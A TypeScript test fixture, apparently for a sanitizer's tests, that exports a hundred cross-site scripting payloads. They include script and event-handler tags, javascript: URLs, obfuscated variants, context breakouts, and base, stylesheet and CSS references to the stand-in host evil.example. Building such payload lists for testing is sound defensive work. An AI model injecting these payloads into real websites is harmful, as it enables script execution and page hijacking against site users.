const RUN = "alert(1)";

/** Elements that run code by themselves or on interaction; `data-xss` makes them detectable. */
const ELEMENTS = [
  `<script data-xss>${RUN}</script>`,
  `<ScRiPt data-xss>${RUN}</sCrIpT>`,
  `<script data-xss src=data:,${RUN}></script>`,
  `<script data-xss type=module>${RUN}</script>`,
  `<img data-xss src=x onerror=${RUN}>`,
  `<img data-xss src=x onerror="&#97;lert(1)">`,
  `<img/data-xss/src=x/onerror=${RUN}>`,
  `<IMG data-xss SRC=x OnErRoR=${RUN}>`,
  `<svg data-xss onload=${RUN}>`,
  `<svg data-xss><script>${RUN}</script></svg>`,
  `<svg data-xss><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg data-xss><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<math data-xss><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<body data-xss onload=${RUN}><b data-xss>`,
  `<iframe data-xss src="javascript:${RUN}"></iframe>`,
  `<iframe data-xss srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data-xss data="javascript:${RUN}"></object>`,
  `<embed data-xss src="javascript:${RUN}">`,
  `<input data-xss autofocus onfocus=${RUN}>`,
  `<select data-xss autofocus onfocus=${RUN}></select>`,
  `<textarea data-xss autofocus onfocus=${RUN}></textarea>`,
  `<details data-xss open ontoggle=${RUN}>`,
  `<video data-xss><source onerror=${RUN}></video>`,
  `<audio data-xss src=x onerror=${RUN}>`,
  `<marquee data-xss onstart=${RUN}>x</marquee>`,
  `<a data-xss href="javascript:${RUN}">x</a>`,
  `<a data-xss href="jav&#x09;ascript:${RUN}">x</a>`,
  `<form data-xss action="javascript:${RUN}"><button>x</button></form>`,
  `<button data-xss formaction="javascript:${RUN}">x</button>`,
  `<base data-xss href="//evil.example/">`,
  `<link data-xss rel=stylesheet href="//evil.example/x.css">`,
  `<meta data-xss http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style data-xss>*{background:url(//evil.example)}</style>`,
  `<style data-xss>@import "//evil.example/x.css";</style>`,
  `<div data-xss style="position:fixed;inset:0">x</div>`,
  `<template data-xss><script>${RUN}</script></template><i data-xss>`,
  `<noscript><p title="</noscript><img data-xss src=x onerror=${RUN}>">`,
  `<custom-element data-xss onclick=${RUN}>x</custom-element>`,
] as const;

/** Strings that end the surrounding context. */
const BREAKOUTS = [
  `">`,
  `'>`,
  `</title>`,
  `</textarea>`,
  `</script>`,
  `</style>`,
  `-->`,
  `</option></select>`,
] as const;

/** Payloads for attributes, scripts, templates and URLs. */
const INLINE = [
  `" data-xss=1 onmouseover=${RUN} x="`,
  `' data-xss=1 onmouseover=${RUN} x='`,
  `" data-xss=1 autofocus onfocus=${RUN} x="`,
  `' data-xss=1 autofocus onfocus=${RUN} x='`,
  `" data-xss=1 style="animation-name:x" onanimationstart="${RUN}" x="`,
  `x" data-xss=1 srcdoc="<script>${RUN}</script>" y="`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://%0a${RUN}`,
  ` javascript:${RUN}`,
  `";${RUN};//`,
  `';${RUN};//`,
] as const;

/**
 * A hundred XSS payloads that try to turn text into code or elements.
 *
 * @see xss.test.ts, which first shows that they work without protection
 */
export const XSS_PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...BREAKOUTS.flatMap((end, index) =>
    [0, 4, 8, 15, 25, 35].map((at) => end + ELEMENTS[(at + index) % ELEMENTS.length]),
  ),
  ...INLINE,
  `{"__html":"<img data-xss src=x onerror=${RUN}>"}`,
  `\u2028</script><script data-xss>${RUN}</script>`,
];
